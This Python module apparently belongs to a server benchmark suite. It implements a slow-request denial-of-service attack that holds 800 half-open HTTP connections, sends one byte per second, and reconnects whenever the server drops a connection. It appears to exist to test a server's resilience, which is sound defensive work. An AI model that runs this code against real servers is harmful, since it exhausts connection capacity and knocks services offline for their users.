"""Attack: one machine opens hundreds of connections and starts a request on each, but never finishes it."""

from __future__ import annotations

import asyncio
from contextlib import suppress
from typing import Final

from benchmarks.table.attacks import work_until

__all__ = ["attack"]

_CONNECTIONS: Final = 800
_PAUSE: Final = 1.0
_BEGINNINGS: Final = (
    b"GET /api/v1/rooms HTTP/1.1\r\nHost: localhost\r\nX-Slow: ",
    b"POST /api/v1/me HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n",
)


async def attack(server: str, stop: asyncio.Event) -> list[str]:
    """Hold as many half-open connections as possible, sending one byte per second; reconnect when cut off."""
    host, _, port = server.partition(":")
    opened = closed = 0

    async def hold(number: int) -> None:
        nonlocal opened, closed
        while True:
            with suppress(OSError):
                reader, writer = await asyncio.open_connection(host, int(port))
                opened += 1
                try:
                    writer.write(_BEGINNINGS[number % len(_BEGINNINGS)])
                    while not reader.at_eof():
                        writer.write(b"x")
                        with suppress(TimeoutError):
                            async with asyncio.timeout(_PAUSE):
                                await reader.read(1000)
                    closed += 1
                finally:
                    writer.transport.abort()
            await asyncio.sleep(_PAUSE)

    holding = []
    for number in range(_CONNECTIONS):
        holding.append(asyncio.create_task(hold(number)))
        if number % 50 == 49:
            await asyncio.sleep(0.05)
    await work_until(stop, holding)
    return [f"{opened} half-open connections, {closed} of them closed by the server"]
